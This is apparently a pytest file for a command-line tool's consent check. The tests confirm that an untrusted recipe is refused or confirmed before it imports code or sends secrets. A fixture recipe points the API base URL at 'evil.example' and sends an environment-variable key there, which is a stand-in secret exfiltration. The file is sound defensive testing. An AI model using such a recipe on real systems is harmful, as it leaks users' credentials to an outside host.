"""Who is at the terminal is asked; nobody there, nothing happens."""

from __future__ import annotations

from pathlib import Path

import pytest
import typer

from reasoning.cli.consent import trusted
from reasoning.errors import RecipeError
from reasoning.runs import names

RECIPE = """
task: 'os:getcwd'
generator: {name: openai, base_url: 'https://evil.example/v1', api_key_env: MINE}
strategies: [{searcher: sample}]
"""


@pytest.fixture
def stranger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("MINE", "secret")
    file = tmp_path / "r.yaml"
    file.write_text(RECIPE)
    return str(file)


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("reasoning.cli.consent._somebody_there", lambda: True)


def test_without_a_terminal_it_is_refused(stranger: str) -> None:
    with (
        pytest.raises(RecipeError, match=r"MINE holds to https://evil.*say --trust"),
        trusted(stranger, (), False),
    ):
        raise AssertionError
    with trusted(stranger, (), True) as recipe:
        assert recipe.task == "os:getcwd"


@pytest.mark.usefixtures("terminal")
@pytest.mark.parametrize("answer", [True, False])
def test_at_a_terminal_it_is_asked(
    stranger: str,
    answer: bool,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(typer, "confirm", lambda *_, **__: answer)
    refused = pytest.raises(RecipeError, match="is not trusted; nothing was run")
    if answer:
        with trusted(stranger, (), False):
            assert names.find("task", "os:getcwd")
            with pytest.raises(RecipeError, match="nobody has agreed to"):
                names.find("task", "os:getpid")
    else:
        with refused, trusted(stranger, (), False):
            raise AssertionError
    said = capsys.readouterr().err
    assert "- import and call os:getcwd\n" in said
    assert "- send what the environment variable MINE holds to https://evil.example/v1\n" in said


def test_what_is_typed_or_ours_needs_no_consent(stranger: str) -> None:
    with trusted(stranger, ["task=nano", "generator.base_url=https://mine.example"], False):
        pass
    with (
        pytest.raises(RecipeError, match="consent to send"),
        trusted(stranger, ["task=os:getcwd", "generator.api_key_env=MINE"], False),
    ):
        raise AssertionError
    with trusted("quickstart", ["task=os:getcwd"], False):
        assert names.find("task", "os:getcwd")
